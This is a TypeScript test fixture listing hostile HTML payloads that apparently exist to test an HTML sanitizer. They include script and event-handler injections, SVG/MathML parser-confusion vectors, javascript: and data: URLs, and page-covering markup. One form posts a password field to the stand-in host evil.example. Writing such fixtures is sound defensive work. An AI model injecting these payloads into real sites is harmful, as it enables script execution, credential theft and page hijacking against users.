/**
 * Markup that tries to run `__hit()`, to break out of its element or to cover the page. Most of it runs in a browser if
 * inserted unchanged, which tests/browser/hostile-markup.test.ts proves.
 */
const hit = '__hit()';

/** Scripts and event handlers. */
const running: readonly string[] = [
  `<script>${hit}</script>`,
  `<ScRiPt type="text/javascript">${hit}</sCrIpT >`,
  `<script\n>${hit}</script\n>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<img src=nowhere onerror=${hit}>`,
  `<img/src="nowhere"/onerror="${hit}">`,
  `<IMG SRC=nowhere OnErRoR=${hit}>`,
  `<img src=nowhere\tonerror\n=\n"${hit}">`,
  `<img src="x\`"onerror="${hit}">`,
  `<img title="--><img src=nowhere onerror=${hit}>" src=nowhere>`,
  `<body onload=${hit}>`,
  `<input autofocus onfocus=${hit}>`,
  `<select autofocus onfocus=${hit}><option>x</select>`,
  `<textarea autofocus onfocus=${hit}></textarea>`,
  `<details open ontoggle=${hit}><summary>x</summary></details>`,
  `<video src=nowhere onerror=${hit}></video>`,
  `<audio src=nowhere onerror=${hit}></audio>`,
  `<video><source onerror=${hit} src=nowhere></video>`,
  `<p onanimationstart=${hit} style="animation:x 1s">x</p>`,
  `<p contenteditable autofocus onfocus=${hit}>x</p>`,
  `<p tabindex=0 autofocus onfocus=${hit}>x</p>`,
  `<marquee onstart=${hit}>x</marquee>`,
];

/** Markup with foreign namespaces (SVG, MathML), and markup that parsers interpret differently. */
const foreign: readonly string[] = [
  `<svg onload=${hit}></svg>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><script href="data:text/javascript,${hit}"></script></svg>`,
  `<svg><image href=nowhere onerror=${hit}></image></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s></animate></svg>`,
  `<svg><a xlink:href="javascript:${hit}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><img src=nowhere onerror=${hit}></foreignObject></svg>`,
  `<svg><style><img src=nowhere onerror=${hit}></style></svg>`,
  `<svg></p><style><g title="</style><img src=nowhere onerror=${hit}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=nowhere onerror=${hit}&gt;">`,
  `<math><mi><style><img src=nowhere onerror=${hit}></style></mi></math>`,
  `<math href="javascript:${hit}">x</math>`,
  `<noscript><p title="</noscript><img src=nowhere onerror=${hit}>"></noscript>`,
  `<title><p title="</title><img src=nowhere onerror=${hit}>"></title>`,
  `<textarea><p title="</textarea><img src=nowhere onerror=${hit}>"></textarea>`,
  `<xmp><p title="</xmp><img src=nowhere onerror=${hit}>"></xmp>`,
  `<noembed><p title="</noembed><img src=nowhere onerror=${hit}>"></noembed>`,
  `<template><img src=nowhere onerror=${hit}></template>`,
  `<template shadowrootmode=open><img src=nowhere onerror=${hit}></template>`,
  `<!--><img src=nowhere onerror=${hit}>-->`,
  `<!--! --!><img src=nowhere onerror=${hit}>-->`,
  `<![CDATA[><img src=nowhere onerror=${hit}>]]>`,
  `<?xml ><img src=nowhere onerror=${hit}>?>`,
  `<table><td><form><table><img src=nowhere onerror=${hit}></table></form></td></table>`,
];

/** URLs that run script, load or navigate by themselves. */
const addresses: readonly string[] = [
  `<a href="javascript:${hit}">x</a>`,
  `<a href="jAvA&#x09;script:${hit}">x</a>`,
  `<a href="java&Tab;script&colon;${hit}">x</a>`,
  `<a href="&#1;javascript:${hit}">x</a>`,
  `<a href="vbscript:${hit}">x</a>`,
  `<a href="data:text/html,<script>parent.${hit}</script>">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="https://user:pass@evil.example/">x</a>`,
  `<area href="javascript:${hit}">`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${hit}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${hit}</script>"></object>`,
  `<embed src="data:text/html,<script>parent.${hit}</script>">`,
  `<img srcset="javascript:${hit} 1x, nowhere 2x" src="https://media.example/a.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${hit}'/>">`,
  `<picture><source srcset="nowhere" onerror=${hit}><img src=nowhere onerror=${hit}></picture>`,
  `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=import href="data:text/html,<script>${hit}</script>">`,
];

/** Markup without script that takes over the page: styles, forms, names that shadow the page's own. */
const covering: readonly string[] = [
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
  '<form action="https://evil.example/" method=post><input name=password><button>x</button></form>',
  '<button form=checkout formaction="https://evil.example/">x</button>',
  '<a id=location name=cookie href="https://ok.example/">x</a>',
  '<img name=getElementById id=cart src="https://media.example/a.png" alt="">',
  '<p id="main" class="top bad">x</p>',
  '<div slot=x is=cart-island data-owner=x>x</div>',
  '<cart-island data-owner="x"></cart-island>',
  '<dialog open>x</dialog>',
];

export const hostileMarkup: readonly string[] = [...running, ...foreign, ...addresses, ...covering];

/** Text that would end any element, attribute, comment or string that contains it. */
export const hostileText = `</script></title></textarea>--><script>${hit}</script>"'\`><img src=nowhere onerror=${hit}>\u2028`;
